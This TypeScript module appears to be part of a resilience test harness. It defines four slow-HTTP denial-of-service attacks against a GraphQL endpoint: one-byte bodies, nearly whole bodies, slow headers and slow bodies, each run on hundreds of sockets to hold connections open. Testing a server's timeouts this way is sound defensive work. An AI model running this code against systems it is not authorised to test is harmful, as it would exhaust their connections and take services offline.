import type { Socket } from 'node:net';
import type { Attack } from '../attack.js';
import type { Target } from '../target.js';

const ADDRESSES = 5;
const SIZE = 999_000;
/** Nearly the whole body; the rest never comes. */
const NEARLY = Buffer.alloc(998_000, ' ');

const begin = (path: string): string => `POST ${path} HTTP/1.1\r\nHost: wander\r\nContent-Type: application/json\r\n`;

/** Opens so many sockets and writes to each of them. */
async function openAll(target: Target, count: number, first: (socket: Socket) => void): Promise<Socket[]> {
  const sockets: Socket[] = [];
  await target.repeat(
    50,
    async (n) => {
      const socket = await target.connect(n % ADDRESSES);
      if (!socket) return;
      sockets.push(socket.resume());
      first(socket);
    },
    count,
  );
  return sockets;
}

/** Writes a little to each again and again. @returns whether all were closed within that time */
async function drip(
  target: Target,
  sockets: Socket[],
  bytes: string,
  everyMs: number,
  withinMs: number,
): Promise<boolean> {
  for (let passed = 0; passed < withinMs && !target.isOver; passed += everyMs) {
    await target.pause(everyMs);
    for (const socket of sockets) if (!socket.destroyed) socket.write(bytes);
    if (sockets.every(({ destroyed }) => destroyed)) return true;
  }
  return sockets.every(({ destroyed }) => destroyed);
}

export const slow: Attack[] = [
  {
    name: 'one-byte-bodies',
    tries: 'sends one byte of a body on a thousand sockets, and opens them anew every ten seconds',
    as: 'guest',
    seconds: 22,
    async run(target) {
      while (!target.isOver) {
        const sockets = await openAll(target, 1_000, (socket) =>
          socket.write(`${begin('/graphql')}Content-Length: 999\r\n\r\n{`),
        );
        await target.pause(10_000);
        sockets.forEach((socket) => socket.destroy());
      }
    },
  },
  {
    name: 'nearly-whole-bodies',
    tries: 'sends 998 of 999 kB of a body on 990 sockets, in waves, and keeps them',
    as: 'guest',
    seconds: 24,
    async run(target) {
      while (!target.isOver) {
        await openAll(target, 990, (socket) => {
          socket.write(`${begin('/graphql')}Content-Length: ${SIZE}\r\n\r\n`);
          socket.write(NEARLY);
        });
        await target.pause(10_500);
      }
    },
  },
  {
    name: 'slow-headers',
    tries: 'sends a header every three seconds on 200 sockets',
    as: 'guest',
    seconds: 18,
    async run(target) {
      const sockets = await openAll(target, 200, (socket) => socket.write(begin('/graphql')));
      return (await drip(target, sockets, 'X-More: 1\r\n', 3_000, 15_000))
        ? undefined
        : 'slow headers have more than 15 s';
    },
  },
  {
    name: 'slow-bodies',
    tries: 'sends a byte of a body each second on 200 sockets',
    as: 'guest',
    seconds: 30,
    async run(target) {
      const sockets = await openAll(target, 200, (socket) =>
        socket.write(`${begin('/graphql')}Content-Length: 999\r\n\r\n`),
      );
      return (await drip(target, sockets, ' ', 1_000, 27_000)) ? undefined : 'slow bodies have more than 27 s';
    },
  },
];
